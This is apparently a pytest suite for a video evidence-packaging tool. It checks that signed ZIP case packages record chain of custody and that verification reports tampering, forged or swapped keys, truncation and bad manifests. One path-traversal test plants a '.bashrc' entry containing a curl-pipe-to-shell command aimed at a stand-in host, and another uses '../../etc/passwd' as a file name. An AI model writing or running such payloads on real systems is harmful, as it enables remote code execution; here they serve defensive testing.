"""Case packages of real clips: written whole or not at all, and every kind of touching found."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.evidence.agency_key import AgencyKey, fingerprint
from app.evidence.package import (
    MANIFEST,
    PUBLIC_KEY,
    SIGNATURE,
    ClipStatus,
    CustodyAction,
    CustodyEntry,
    EvidencePackageError,
    KeyStatus,
    PackageUnreadable,
    SignatureStatus,
    write_package,
)
from app.evidence.package import verify_package as verify
from tests.disk import small_filesystem
from tests.evidence_packages import (
    EXPORT,
    INCIDENT,
    agency_key,
    build_package,
    clip_from_file,
    custody_for,
    flip_byte,
    package,
    resign_package,
    rewrite_package,
    sha256_of,
    video_files,
)

__all__ = ["agency_key", "package", "video_files"]  # fixtures shared with the CLI's tests


def manifest_of(package: Path) -> dict[str, Any]:
    with zipfile.ZipFile(package) as archive:
        manifest: dict[str, Any] = json.loads(archive.read(MANIFEST))
    return manifest


def problems(report) -> list[str]:
    return [str(problem) for problem in report.problems]


def test_a_package_round_trips_byte_for_byte_with_its_custody(
    tmp_path: Path, video_files: list[Path], agency_key: AgencyKey
):
    path = tmp_path / "case.zip"
    receipt = build_package(path, video_files, agency_key)

    assert receipt.clip_count == 3
    assert receipt.clip_bytes == sum(file.stat().st_size for file in video_files)
    assert receipt.key_fingerprint == fingerprint(agency_key.public_key)
    assert sorted(entry.name for entry in tmp_path.iterdir()) == ["case.zip"]  # no temporary
    with zipfile.ZipFile(path) as archive:
        assert {info.compress_type for info in archive.infolist()} == {zipfile.ZIP_STORED}
        assert archive.namelist() == [
            "clips/camera-1.mp4",
            "clips/camera-2.mp4",
            "clips/camera-3.mp4",
            MANIFEST,
            SIGNATURE,
            PUBLIC_KEY,
        ]
        for number, file in enumerate(video_files, 1):
            assert archive.read(f"clips/camera-{number}.mp4") == file.read_bytes()
        assert archive.read(PUBLIC_KEY) == agency_key.public_key_pem
    manifest = manifest_of(path)
    assert manifest["format"] == 1
    assert manifest["package_id"] == receipt.package_id
    assert manifest["incident"] == INCIDENT
    assert manifest["agency_key"] == receipt.key_fingerprint
    assert manifest["export"] == {
        "by": "supervisor",
        "purpose": "case:24-1187",
        "at": "2026-11-20T09:30:00.000000Z",
    }
    first = manifest["clips"][0]
    assert first == {
        "path": "clips/camera-1.mp4",
        "size": video_files[0].stat().st_size,
        "sha256": sha256_of(video_files[0]),
        "evidence_id": "ev-1",
        "original_name": "camera-1.mp4",
        "camera": {"id": "cam-1", "name": "Harbor St camera 1"},
        "footage_request": "FR-2026-0001",
        "incident": INCIDENT,
        "received": {"by": "vault", "at": "2026-11-18T16:03:11.000000Z"},
    }
    assert manifest["custody"][:2] == [
        {
            "at": "2026-11-18T16:03:11.000000Z",
            "actor": "vault",
            "action": "received",
            "purpose": None,
            "clip": "clips/camera-1.mp4",
        },
        {
            "at": "2026-11-18T17:03:11.000000Z",
            "actor": "ops1",
            "action": "viewed",
            "purpose": f"incident:{INCIDENT}",
            "clip": "clips/camera-1.mp4",
        },
    ]
    assert manifest["custody"][-1]["clip"] is None  # about the whole case

    report = verify(path)
    assert report.intact, problems(report)
    assert report.signature is SignatureStatus.VALID
    assert report.signing_key is KeyStatus.NOT_PINNED
    assert report.key_fingerprint == receipt.key_fingerprint
    assert (report.package_id, report.incident) == (receipt.package_id, INCIDENT)
    assert [clip.status for clip in report.clips] == [ClipStatus.INTACT] * 3
    assert [clip.sha256 for clip in report.clips] == [sha256_of(f) for f in video_files]
    assert report.clip_bytes == receipt.clip_bytes
    pinned = verify(path, agency_key.public_key)
    assert pinned.intact and pinned.signing_key is KeyStatus.PINNED


@pytest.mark.skipif(shutil.which("openssl") is None, reason="needs the openssl command")
def test_the_package_checks_out_with_unzip_sha256sum_and_openssl_alone(package: Path):
    """The module docstring's recipe, run with the real tools: the format needs no Beacon."""
    folder = package.parent / "unpacked"
    with zipfile.ZipFile(package) as archive:
        archive.extractall(folder)
    manifest = json.loads((folder / MANIFEST).read_bytes())
    for clip in manifest["clips"]:
        listed = subprocess.run(
            ["sha256sum", clip["path"]], cwd=folder, capture_output=True, text=True, check=True
        )
        assert listed.stdout.split()[0] == clip["sha256"]
    command = [
        *("openssl", "pkeyutl", "-verify", "-pubin", "-inkey", PUBLIC_KEY, "-rawin"),
        *("-in", MANIFEST, "-sigfile", SIGNATURE),
    ]
    assert subprocess.run(command, cwd=folder, capture_output=True, check=False).returncode == 0
    (folder / MANIFEST).write_bytes((folder / MANIFEST).read_bytes().replace(b"ops1", b"ops2"))
    assert subprocess.run(command, cwd=folder, capture_output=True, check=False).returncode != 0


def test_an_existing_file_is_never_written_over(package: Path, video_files, agency_key):
    before = package.read_bytes()
    with pytest.raises(EvidencePackageError, match=r"exists already.*never written over"):
        build_package(package, video_files, agency_key)
    assert package.read_bytes() == before
    assert sorted(entry.name for entry in package.parent.iterdir()) == [package.name]


def test_a_clip_that_no_longer_matches_its_arrival_hash_stops_the_export(
    tmp_path: Path, video_files: list[Path], agency_key: AgencyKey
):
    clips = [
        clip_from_file(video_files[0], 1),
        clip_from_file(video_files[1], 2, recorded_sha256="ab" * 32),
    ]
    target = tmp_path / "case.zip"
    with pytest.raises(EvidencePackageError) as raised:
        write_package(
            target, incident=INCIDENT, clips=clips, custody=[], export=EXPORT, key=agency_key
        )
    assert str(raised.value).startswith(
        "clip camera-2.mp4 (evidence ev-2) does not match the SHA-256 recorded when it arrived"
    )
    assert "nothing was exported" in str(raised.value)
    assert list(tmp_path.iterdir()) == []  # neither the package nor its temporary


def test_a_source_that_fails_half_way_leaves_no_half_package(
    tmp_path: Path, video_files: list[Path], agency_key: AgencyKey
):
    class VaultReadError(Exception):
        pass

    def broken() -> Iterator[bytes]:
        yield video_files[1].read_bytes()[:1000]
        raise VaultReadError("the vault could not decrypt chunk 2")

    clip = clip_from_file(video_files[1], 2)
    clips = [clip_from_file(video_files[0], 1), type(clip)(**{**_fields(clip), "read": broken})]
    with pytest.raises(VaultReadError):
        write_package(
            tmp_path / "case.zip",
            incident=INCIDENT,
            clips=clips,
            custody=[],
            export=EXPORT,
            key=agency_key,
        )
    assert list(tmp_path.iterdir()) == []


def _fields(clip) -> dict[str, Any]:
    return {name: getattr(clip, name) for name in clip.__slots__}


def test_what_the_caller_got_wrong_is_refused_before_anything_is_written(
    tmp_path: Path, video_files: list[Path], agency_key: AgencyKey
):
    clip = clip_from_file(video_files[0], 1)
    target = tmp_path / "case.zip"
    wrong = [
        ([], [], "a case package needs at least one clip"),
        ([clip, clip], [], "evidence ev-1 is given twice"),
        (
            [clip],
            [CustodyEntry(EXPORT.at, "ops1", CustodyAction.VIEWED, "x", "ev-9")],
            "a custody entry names evidence ev-9, which is not among the clips of this package",
        ),
        (
            [clip],
            [CustodyEntry(datetime(2026, 11, 19, 8, 0), "ops1", CustodyAction.VIEWED)],
            "time 2026-11-19 08:00:00 has no time zone; package times are UTC",
        ),
    ]
    for clips, custody, message in wrong:
        with pytest.raises(EvidencePackageError) as raised:
            write_package(
                target,
                incident=INCIDENT,
                clips=clips,
                custody=custody,
                export=EXPORT,
                key=agency_key,
            )
        assert str(raised.value) == message
    assert list(tmp_path.iterdir()) == []


def test_file_names_are_made_safe_and_unique(
    tmp_path: Path, video_files: list[Path], agency_key: AgencyKey
):
    names = ["../../etc/passwd", "C:\\Users\\owner\\video.mp4", "VIDEO.mp4", "video.mp4", ".."]
    clips = [
        clip_from_file(video_files[number % 3], number + 1, file_name=name)
        for number, name in enumerate(names)
    ]
    custody = custody_for(clips)
    path = tmp_path / "case.zip"
    write_package(
        path, incident=INCIDENT, clips=clips, custody=custody, export=EXPORT, key=agency_key
    )

    manifest = manifest_of(path)
    assert [clip["path"] for clip in manifest["clips"]] == [
        "clips/passwd",
        "clips/video.mp4",
        "clips/VIDEO-2.mp4",
        "clips/video-3.mp4",
        "clips/clip",
    ]
    assert [clip["original_name"] for clip in manifest["clips"]] == names
    assert verify(path).intact


def test_one_byte_changed_in_a_clip_names_that_clip(package: Path, agency_key: AgencyKey):
    flip_byte(package, "clips/camera-2.mp4", 5000)

    report = verify(package, agency_key.public_key)

    now = report.clips[1].sha256 or ""
    signed = manifest_of(package)["clips"][1]["sha256"]
    assert problems(report) == [
        f"clips/camera-2.mp4: SHA-256 {now[:6]}…{now[-4:]} differs from the manifest's "
        f"{signed[:6]}…{signed[-4:]}: the clip was changed"
    ]
    assert [clip.status for clip in report.clips] == [
        ClipStatus.INTACT,
        ClipStatus.CHANGED,
        ClipStatus.INTACT,
    ]
    assert report.signature is SignatureStatus.VALID


def test_a_manifest_entry_removed_breaks_the_signature_and_leaves_a_stray_clip(
    package: Path, tmp_path: Path
):
    def drop_first_clip(name: str, data: bytes) -> bytes:
        if name != MANIFEST:
            return data
        manifest = json.loads(data)
        del manifest["clips"][0]
        manifest["custody"] = [e for e in manifest["custody"] if e["clip"] != "clips/camera-1.mp4"]
        return json.dumps(manifest, indent=2).encode()

    edited = rewrite_package(package, tmp_path / "edited.zip", drop_first_clip)

    report = verify(edited)
    assert report.signature is SignatureStatus.INVALID
    assert problems(report) == [
        "manifest.sig: the signature does not match manifest.json: the manifest was changed "
        "after it was signed, or it was signed with another key",
        "clips/camera-1.mp4: in the package but not in the manifest (added later)",
    ]


def test_a_clip_removed_is_missing(package: Path, tmp_path: Path):
    def drop(name: str, data: bytes) -> bytes | None:
        return None if name == "clips/camera-3.mp4" else data

    report = verify(rewrite_package(package, tmp_path / "cut.zip", drop))

    assert problems(report) == ["clips/camera-3.mp4: in the manifest but missing from the package"]
    assert report.clips[2].status is ClipStatus.MISSING
    assert report.signature is SignatureStatus.VALID


def test_an_extra_file_is_named(package: Path, tmp_path: Path):
    added = rewrite_package(
        package, tmp_path / "added.zip", add=[("clips/camera-4.mp4", b"\0" * 100)]
    )
    assert problems(verify(added)) == [
        "clips/camera-4.mp4: in the package but not in the manifest (added later)"
    ]


def test_a_package_resigned_with_another_key_passes_only_unpinned(
    package: Path, tmp_path: Path, agency_key: AgencyKey
):
    forger = AgencyKey.generate()
    forged = resign_package(package, tmp_path / "forged.zip", forger)

    unpinned = verify(forged)
    assert unpinned.intact  # self-consistent: only the fingerprint tells
    assert unpinned.signing_key is KeyStatus.NOT_PINNED
    assert unpinned.key_fingerprint == forger.fingerprint
    pinned = verify(forged, agency_key.public_key)
    assert pinned.signature is SignatureStatus.VALID
    assert pinned.signing_key is KeyStatus.MISMATCH
    assert problems(pinned) == [
        f"manifest.sig: signed by key {forger.fingerprint}, not by your agency's key "
        f"{agency_key.fingerprint} (--key): this package was not signed by your agency"
    ]


def test_a_signature_by_another_key_under_the_agency_key_is_invalid(
    package: Path, tmp_path: Path, agency_key: AgencyKey
):
    forger = AgencyKey.generate()

    def sign_again(name: str, data: bytes) -> bytes:
        return forger.sign(manifest_bytes) if name == SIGNATURE else data

    with zipfile.ZipFile(package) as archive:
        manifest_bytes = archive.read(MANIFEST)
    resigned = rewrite_package(package, tmp_path / "resigned.zip", sign_again)

    for report in (verify(resigned), verify(resigned, agency_key.public_key)):
        assert report.signature is SignatureStatus.INVALID
        assert problems(report) == [
            "manifest.sig: the signature does not match manifest.json: the manifest was "
            "changed after it was signed, or it was signed with another key"
        ]


def test_a_swapped_public_key_or_a_bad_signature_file_is_named(
    package: Path, tmp_path: Path, agency_key: AgencyKey
):
    other = AgencyKey.generate()
    swapped = rewrite_package(
        package,
        tmp_path / "swapped.zip",
        lambda name, data: other.public_key_pem if name == PUBLIC_KEY else data,
    )
    pinned = verify(swapped, agency_key.public_key)
    assert (pinned.signature, pinned.signing_key) == (SignatureStatus.VALID, KeyStatus.PINNED)
    assert problems(pinned) == [
        "agency-public-key.pem: is not the key that signed the manifest (--key is)",
        f"manifest.json: names agency key {agency_key.fingerprint}, but the package carries "
        f"key {other.fingerprint}",
    ]

    keyless = rewrite_package(
        package,
        tmp_path / "keyless.zip",
        lambda name, data: b"-----BEGIN PUBLIC KEY-----\nnope\n" if name == PUBLIC_KEY else data,
    )
    report = verify(keyless)
    assert report.signature is SignatureStatus.INVALID
    assert [problem.where for problem in report.problems] == [PUBLIC_KEY, SIGNATURE]
    assert problems(report)[1] == (
        "manifest.sig: cannot be checked: the package carries no usable public key; pass --key "
        "with the agency's public key"
    )
    assert verify(keyless, agency_key.public_key).signature is SignatureStatus.VALID

    long = rewrite_package(
        package, tmp_path / "long.zip", lambda name, data: data * 2 if name == SIGNATURE else data
    )
    assert problems(verify(long)) == ["manifest.sig: is 128 bytes; an Ed25519 signature is 64"]


def test_a_missing_signature_says_the_package_is_not_signed(package: Path, tmp_path: Path):
    unsigned = rewrite_package(
        package, tmp_path / "unsigned.zip", lambda name, data: None if name == SIGNATURE else data
    )
    report = verify(unsigned)
    assert report.signature is SignatureStatus.MISSING
    assert problems(report) == ["manifest.sig: missing from the package"]


def test_a_truncated_zip_is_cut_short(package: Path):
    data = package.read_bytes()
    package.write_bytes(data[: len(data) * 2 // 3])
    report = verify(package)
    assert problems(report) == [
        "package: the ZIP is cut short: its directory (at the end of the file) is missing, so "
        "the copy is incomplete; copy the package again from the original"
    ]
    assert report.clips == []


def test_a_path_traversal_entry_is_refused_by_name(package: Path, tmp_path: Path):
    hostile = rewrite_package(
        package,
        tmp_path / "hostile.zip",
        add=[("clips/../../../home/ops/.bashrc", b"curl evil.invalid | sh\n")],
    )
    assert problems(verify(hostile)) == [
        "entry 'clips/../../../home/ops/.bashrc': unsafe name: it has an empty, '.' or '..' "
        "part; no package has one"
    ]


def test_not_a_zip_at_all(tmp_path: Path):
    path = tmp_path / "case.zip"
    path.write_bytes(b"\x7fELF" + os.urandom(4000))
    assert problems(verify(path)) == ["package: not a ZIP file, so not a Beacon case package"]
    empty = tmp_path / "empty.zip"
    empty.write_bytes(b"")
    assert problems(verify(empty)) == ["package: not a ZIP file, so not a Beacon case package"]


def test_every_problem_is_listed_not_just_the_first(package: Path, tmp_path: Path):
    def drop(name: str, data: bytes) -> bytes | None:
        return None if name == "clips/camera-3.mp4" else data

    touched = rewrite_package(package, tmp_path / "touched.zip", drop, add=[("notes.txt", b"hi")])
    flip_byte(touched, "clips/camera-1.mp4", 100)

    assert [problem.where for problem in verify(touched).problems] == [
        "clips/camera-1.mp4",
        "clips/camera-3.mp4",
        "notes.txt",
    ]


def test_a_malformed_manifest_is_named(package: Path, tmp_path: Path):
    def not_json(name: str, data: bytes) -> bytes:
        return b"{not json" if name == MANIFEST else data

    report = verify(rewrite_package(package, tmp_path / "a.zip", not_json))
    assert report.problems[0].where == SIGNATURE
    assert str(report.problems[1]).startswith("manifest.json: is not valid JSON (")

    def no_size(name: str, data: bytes) -> bytes:
        if name != MANIFEST:
            return data
        manifest = json.loads(data)
        del manifest["clips"][1]["size"]
        manifest["clips"][2]["sha256"] = "not hex"
        return json.dumps(manifest).encode()

    report = verify(rewrite_package(package, tmp_path / "b.zip", no_size))
    assert problems(report)[1:] == [
        "manifest.json: malformed: clips.1.size: Field required",
        "manifest.json: malformed: clips.2.sha256: String should match pattern '^[0-9a-f]{64}$'",
    ]

    def newer(name: str, data: bytes) -> bytes:
        return data.replace(b'"format": 1', b'"format": 2') if name == MANIFEST else data

    report = verify(rewrite_package(package, tmp_path / "c.zip", newer))
    assert problems(report)[1:] == [
        "manifest.json: is format 2, newer than this Beacon reads (1); check it with a newer Beacon"
    ]


def test_a_package_zipped_again_with_compression_and_folders_still_verifies(
    package: Path, tmp_path: Path
):
    deflated = rewrite_package(
        package, tmp_path / "deflated.zip", add=[("clips/", b"")], compression=zipfile.ZIP_DEFLATED
    )
    with zipfile.ZipFile(deflated) as archive:
        assert archive.getinfo(MANIFEST).compress_type == zipfile.ZIP_DEFLATED
    report = verify(deflated)
    assert report.intact, problems(report)
    assert len(report.clips) == 3


def test_a_file_that_cannot_be_read_is_not_a_report(tmp_path: Path):
    with pytest.raises(PackageUnreadable, match=r"cannot read .*missing\.zip: No such file"):
        verify(tmp_path / "missing.zip")


@pytest.fixture(scope="module")
def pristine(
    tmp_path_factory: pytest.TempPathFactory, video_files: list[Path], agency_key: AgencyKey
) -> bytes:
    path = tmp_path_factory.mktemp("pristine") / "case.zip"
    build_package(path, video_files, agency_key)
    return path.read_bytes()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_whatever_bytes_are_changed_the_verdict_is_a_report_never_a_false_intact(
    data: st.DataObject,
    pristine: bytes,
    video_files: list[Path],
    tmp_path_factory: pytest.TempPathFactory,
):
    """Overwritten, inserted or cut bytes anywhere (most of them in the ZIP's directory and the
    signed entries at the end): always a report, and intact only with every clip as it was."""
    damaged = bytearray(pristine)
    position = data.draw(
        st.one_of(
            st.integers(len(damaged) - 4000, len(damaged) - 1), st.integers(0, len(damaged) - 1)
        )
    )
    how = data.draw(st.sampled_from(["overwrite", "insert", "cut"]))
    if how == "cut":
        del damaged[position:]
    else:
        chunk = data.draw(st.binary(min_size=1, max_size=16))
        end = position + len(chunk) if how == "overwrite" else position
        damaged[position:end] = chunk
    path = tmp_path_factory.mktemp("damaged") / "case.zip"
    path.write_bytes(bytes(damaged))

    report = verify(path)

    if report.intact:
        assert [clip.sha256 for clip in report.clips] == [sha256_of(f) for f in video_files]
    else:
        assert all(problem.where and problem.what for problem in report.problems)


def test_a_full_disk_leaves_nothing_behind_and_says_so(
    tmp_path: Path, video_files: list[Path], agency_key: AgencyKey
):
    with small_filesystem(tmp_path / "usb", 256) as disk:
        target = disk / "case.zip"
        with pytest.raises(EvidencePackageError) as raised:
            build_package(target, video_files, agency_key)  # about 380 kB of clips
        assert str(raised.value) == (
            f"cannot write the case package {target}: No space left on device; nothing was "
            "left behind (free some space or choose another folder)"
        )
        assert list(disk.iterdir()) == []
